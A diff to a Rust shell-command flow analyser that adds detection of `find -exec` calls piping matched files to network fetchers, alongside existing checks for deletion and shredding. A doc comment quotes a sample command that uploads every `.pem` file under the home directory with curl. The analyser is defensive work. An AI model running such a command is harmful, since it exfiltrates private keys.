@@ -1,6 +1,6 @@
 //! Programs that make one text of another.
 
-use super::RunCommand;
+use super::{FETCHERS, RunCommand, invoke};
 use crate::flow::{
     ActKind, EvaluatedLanguage, PathKind, SourceKind,
     eval::Evaluator,
@@ -236,8 +236,45 @@ impl RunCommand<'_> {
         }
     }
 
+    /// `find ~ -name '*.pem' -exec curl -F f=@{} url \;`
+    fn find_exec(&self, this: &mut Evaluator<'_>) {
+        let flag = |word: &FlowValue| matches!(word.known(), Some("-exec" | "-execdir" | "-ok"));
+        let Some(start) = self.words.iter().position(flag) else {
+            return;
+        };
+        let root = self.operands().next().map(FlowValue::shown);
+        let root = root.unwrap_or_default();
+        let named = self.after(&["-name", "-iname"]).map(FlowValue::shown);
+        let path = match &named {
+            Some(name) => format!("{root}/{}", name.replace('*', "x")),
+            None => root.clone(),
+        };
+        let mut words = Vec::new();
+        for word in &self.words[start + 1..] {
+            let Some(text) = word.known() else {
+                words.push(word.clone());
+                continue;
+            };
+            if matches!(text, ";" | "\\;" | "+") {
+                break;
+            }
+            let mut given = FlowValue::text(text.replace("{}", &path));
+            if text.contains("{}") {
+                given.absorb(&this.read(&FlowValue::text(root.clone()), self.at));
+            }
+            words.push(given);
+        }
+        let mut words = words.into_iter();
+        let sends =
+            |program: &FlowValue| program.known().is_some_and(|name| FETCHERS.contains(&name));
+        if let Some(program) = words.next().filter(sends) {
+            invoke(this, &program, words.collect(), None, self.at);
+        }
+    }
+
     pub(super) fn find(&self, this: &mut Evaluator<'_>) {
         let line = self.line();
+        self.find_exec(this);
         if self.texts().any(|word| word == "-delete")
             || line.contains("-exec rm")
             || line.contains("-exec shred")
